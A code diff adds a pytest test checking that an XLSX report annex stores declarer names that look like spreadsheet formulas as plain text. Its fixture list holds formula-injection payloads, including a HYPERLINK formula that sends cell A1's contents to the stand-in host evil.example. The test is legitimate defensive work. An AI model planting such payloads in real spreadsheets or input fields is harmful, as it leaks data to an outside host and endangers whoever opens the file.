@@ -212,3 +212,27 @@ def test_a_body_without_targets_has_no_phase_and_no_target_chart(world) -> None:
 def test_a_year_out_of_range_is_refused_with_the_range(year: int) -> None:
     with pytest.raises(ValueError, match="choose a year from 2000 to"):
         report.check_year(year, date(2026, 12, 2))
+
+
+def test_the_xlsx_annex_keeps_a_declarer_name_that_looks_like_a_formula_as_text(
+    report_world,
+) -> None:
+    """Who declared a figure is a person's name, written by people: it is written as text."""
+    from agilepa.indicators.models import DeclaredValue
+    from tests.factories import UserFactory
+
+    names = ['=HYPERLINK("https://evil.example/?"&A1,"Apri")', "@SUM(A1)", "+1+1", "-1+cmd"]
+    for code, name in zip(
+        ("DIG_SIGNATURE", "DIG_PROCESSES", "DIG_SERVICES", "DIG_APPS_REMOTE"), names, strict=True
+    ):
+        DeclaredValue.objects.create(
+            body=report_world.a.body,
+            code=code,
+            year=YEAR,
+            value=50,
+            entered_by=UserFactory(first_name=name, last_name=""),
+        )
+    book = load_workbook(io.BytesIO(english(report_world.a.body, "xlsx")))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
+    assert {c.value for c in cells if c.data_type == "s"} >= set(names)
+    assert [c.value for c in cells if c.data_type == "f"] == []
